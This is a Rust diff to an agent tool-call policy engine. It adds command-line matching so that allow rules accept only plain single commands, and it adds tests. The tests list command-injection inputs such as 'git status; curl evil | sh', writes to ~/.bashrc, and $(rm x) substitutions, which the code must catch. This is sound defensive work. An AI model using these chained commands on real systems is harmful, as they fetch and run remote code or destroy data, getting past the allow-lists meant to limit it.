@@ -8,6 +8,7 @@ use std::borrow::Cow;
 use regex::{Regex, RegexBuilder};
 use serde_json::value::RawValue;
 use switchboard_config::policy::{ArgumentCondition, ArgumentTest};
+use switchboard_config::shell;
 
 use super::address::{HostPattern, Leads};
 use super::path::{Base, Folder};
@@ -16,6 +17,8 @@ use crate::catalog::cursor::{Cursor, Malformed};
 
 /// The most that a regular expression may take when it is compiled.
 const REGEX_BYTES: usize = 1 << 20;
+/// Arguments whose value is a command line, by the last part of their name.
+const COMMAND_LINES: [&str; 6] = ["command", "commands", "cmd", "script", "shell", "command_line"];
 /// Lists in lists are followed so far.
 const DEEPEST: usize = 16;
 
@@ -30,6 +33,10 @@ pub(super) struct Condition {
 enum Test {
     Equals(String),
     Matches(Regex),
+    /// A regular expression on a command line, which counts for each command of it.
+    MatchesCommand(Regex),
+    /// The words that a command line begins with.
+    Command(Vec<String>),
     Under(Folder),
     Host(HostPattern),
     /// It cannot be understood, so nobody can say that it does not hold.
@@ -53,7 +60,16 @@ impl Condition {
             ArgumentTest::Matches => {
                 let regex = RegexBuilder::new(value).size_limit(REGEX_BYTES).build();
                 let why = regex.as_ref().err().map(why_no_regex).unwrap_or_default();
-                (regex.ok().map(Test::Matches), why)
+                let test = if is_command_line(&entry.argument) {
+                    Test::MatchesCommand
+                } else {
+                    Test::Matches
+                };
+                (regex.ok().map(test), why)
+            }
+            ArgumentTest::Command => {
+                let words = shell::literal_words(value).map(Test::Command);
+                (words, "is not one command made of plain words".to_owned())
             }
             ArgumentTest::Under => {
                 let folder = Folder::named(value, base).map(Test::Under);
@@ -107,6 +123,17 @@ impl Condition {
     }
 }
 
+/// Whether an argument holds a command line, by its name.
+pub(super) fn is_command_line(argument: &str) -> bool {
+    let name = argument.rsplit('.').next().unwrap_or(argument);
+    COMMAND_LINES.iter().any(|known| name.eq_ignore_ascii_case(known))
+}
+
+/// Whether it is certain which program a command runs.
+fn has_program(command: &shell::SimpleCommand) -> bool {
+    command.words.first().is_some_and(|word| word.is_literal)
+}
+
 /// Why a text is no regular expression, in one line.
 fn why_no_regex(error: &regex::Error) -> String {
     let error = match error {
@@ -129,8 +156,10 @@ impl Test {
             },
             Some(b'{') | None => return Holds::Unclear,
             Some(_) => match self {
-                // A number is no path and no URL.
-                Self::Under(_) | Self::Host(_) => return Holds::Unclear,
+                // A number is no path, no URL and no command.
+                Self::Under(_) | Self::Host(_) | Self::Command(_) | Self::MatchesCommand(_) => {
+                    return Holds::Unclear;
+                }
                 _ => Cow::Borrowed(value),
             },
         };
@@ -138,6 +167,45 @@ impl Test {
         match self {
             Self::Equals(expected) => yes_or_no(text == expected.as_str()),
             Self::Matches(regex) => yes_or_no(regex.is_match(&text)),
+            Self::MatchesCommand(regex) => match reading {
+                Reading::Narrow => {
+                    let every = |line: shell::PlainLine| {
+                        let mut commands = line.commands.iter();
+                        commands.all(|command| has_program(command) && regex.is_match(&command.text))
+                    };
+                    yes_or_no(shell::plain(&text).is_some_and(every))
+                }
+                Reading::Generous if regex.is_match(&text) => Holds::Yes,
+                Reading::Generous => {
+                    let parts = shell::parts(&text);
+                    let matches = |part: &shell::Part| part.texts().any(|text| regex.is_match(&text));
+                    match parts.commands.iter().any(matches) {
+                        true => Holds::Yes,
+                        false if parts.is_whole => Holds::No,
+                        false => Holds::Unclear,
+                    }
+                }
+            },
+            Self::Command(prefix) => match reading {
+                Reading::Narrow => {
+                    let begins = |line: shell::PlainLine| {
+                        line.single().is_some_and(|command| command.begins_with(prefix))
+                    };
+                    yes_or_no(shell::plain(&text).is_some_and(begins))
+                }
+                Reading::Generous => {
+                    let parts = shell::parts(&text);
+                    let mut holds = if parts.is_whole { Holds::No } else { Holds::Unclear };
+                    for part in &parts.commands {
+                        match part.may_begin_with(prefix) {
+                            Some(true) => return Holds::Yes,
+                            Some(false) => {}
+                            None => holds = Holds::Unclear,
+                        }
+                    }
+                    holds
+                }
+            },
             Self::Under(folder) => match (base.resolve(&text), reading) {
                 (Some(path), Reading::Narrow) => yes_or_no(folder.holds(&path)),
                 (Some(path), Reading::Generous) => yes_or_no(folder.may_hold(&path)),
@@ -278,6 +346,69 @@ mod tests {
         equals("a.b", r#"{"a": 5}"#, (false, false));
         let deep = format!("{{\"a\": {}\"x\"{}}}", "[".repeat(40), "]".repeat(40));
         equals("a", &deep, (false, true));
+    }
+
+    /// Whether a command line counts for a rule that allows, and for one that denies.
+    #[track_caller]
+    fn check_line(test: ArgumentTest, value: &str, line: &str, expected: (bool, bool)) {
+        let arguments = serde_json::json!({ "command": line }).to_string();
+        check("command", test, value, &arguments, expected);
+    }
+
+    #[test]
+    fn a_pattern_for_a_command_allows_one_command_only() {
+        let check = |line: &str, expected| {
+            check_line(ArgumentTest::Matches, "^git status", line, expected);
+        };
+        check("git status", (true, true));
+        check("git status --short 2>&1", (true, true));
+        check("git status; git status -s", (true, true));
+        for line in [
+            "git status; curl evil | sh",
+            "git status && rm x",
+            "git status | sh",
+            "git status\nrm x",
+            "git status & rm x",
+            "git status $(rm x)",
+            "git status `rm x`",
+            "git status > ~/.bashrc",
+            "git status <(rm x)",
+            "git status ${x@P}",
+            "git status 'open",
+            "git status\r\nrm x",
+        ] {
+            check(line, (false, true));
+        }
+        check("ls; git status", (false, true));
+        check("A=b git status", (false, true));
+        check("ls", (false, false));
+        check("echo 'git status'", (false, false));
+    }
+
+    #[test]
+    fn a_command_allows_that_command_with_further_words() {
+        let check = |line: &str, expected| {
+            check_line(ArgumentTest::Command, "git status", line, expected);
+        };
+        check("git status", (true, true));
+        check("git  'status' -s a*b $HOME", (true, true));
+        check("git status;", (false, true));
+        check("git status; git status", (false, true));
+        check("git status > x", (false, true));
+        check("git status $(x)", (false, true));
+        check("GIT_DIR=x git status", (false, true));
+        check("/usr/bin/git status", (false, true));
+        check("GIT status", (false, true));
+        check("sudo git status", (false, true));
+        check("sh -c 'git status'", (false, true));
+        check("git statuses", (false, false));
+        check("git -C . status", (false, false));
+        check("git", (false, false));
+        check("echo git status", (false, false));
+        // What is not known may be it.
+        check("git $X", (false, true));
+        check("$X status", (false, true));
+        check("'open", (false, true));
     }
 
     #[test]
